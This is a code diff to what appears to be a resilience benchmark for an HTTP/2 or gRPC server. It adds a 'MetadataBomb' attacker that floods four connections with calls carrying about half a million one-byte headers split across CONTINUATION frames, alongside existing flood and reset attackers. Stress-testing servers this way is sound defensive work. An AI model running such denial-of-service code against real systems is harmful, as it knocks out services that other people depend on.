@@ -8,11 +8,14 @@ from collections.abc import Callable
 from facet.benchmarks.hostile.attackers.attacker import Attacker, Pace, Tally, Target, crowd
 from facet.benchmarks.hostile.attackers.frames import (
     HEALTH_CHECK,
+    PREFACE,
     RECOGNITION,
+    SERVER_INFO,
     continuation_frame,
     data_frame,
     header_block,
     headers_frame,
+    many_entries,
     ping_frame,
     request_headers,
     reset_frame,
@@ -21,7 +24,7 @@ from facet.benchmarks.hostile.attackers.frames import (
     unary_call,
     window_frame,
 )
-from facet.benchmarks.hostile.attackers.wire import raw_http2
+from facet.benchmarks.hostile.attackers.wire import connected, raw_http2, read_away
 
 _CONNECTIONS = 4
 _BATCH = 100
@@ -29,6 +32,7 @@ _FRAMES_PER_SECOND = 20_000
 _RESETS_PER_SECOND = 4_000
 _CALLS_PER_SECOND = 2_000
 _LAST_STREAM = 2**30
+_FRAME_BYTES = 16_000
 
 
 class FrameFlood(Attacker):
@@ -153,6 +157,29 @@ class UnknownMethods(CallFlood):
         return unary_call(stream, block)
 
 
+class MetadataBomb(Attacker):
+    """Sends calls with very many headers, which gRPC limits only if the client confirms the server's settings."""
+
+    name = "metadata-bombs"
+    what = "sends half a million headers of a byte each on 4 connections, and does not confirm the server's settings"
+
+    async def attack(self, target: Target, tally: Tally) -> None:
+        """Send a call on each connection, again and again."""
+        block = many_entries(request_headers(SERVER_INFO), 480_000)
+        first, *parts = [block[at : at + _FRAME_BYTES] for at in range(0, len(block), _FRAME_BYTES)]
+        call = headers_frame(1, first, end_headers=False) + b"".join(continuation_frame(1, part) for part in parts)
+        call += continuation_frame(1, b"", end_headers=True)
+
+        async def member(_: int) -> None:
+            async with connected(target, tally) as (reader, writer):
+                writer.write(PREFACE + settings_frame() + call)
+                await writer.drain()
+                tally["calls"] += 1
+                await read_away(reader)
+
+        await crowd(_CONNECTIONS, member, tally)
+
+
 class EmptyData(Attacker):
     """Sends empty DATA frames without end on an open call."""
 
@@ -207,6 +234,7 @@ ATTACKERS = (
     lambda: FrameFlood("settings", "SETTINGS frames", settings_frame),
     lambda: FrameFlood("window-update", "WINDOW_UPDATE frames", _window_update),
     ContinuationFlood,
+    MetadataBomb,
     EmptyData,
     RapidReset,
     MadeYouReset,
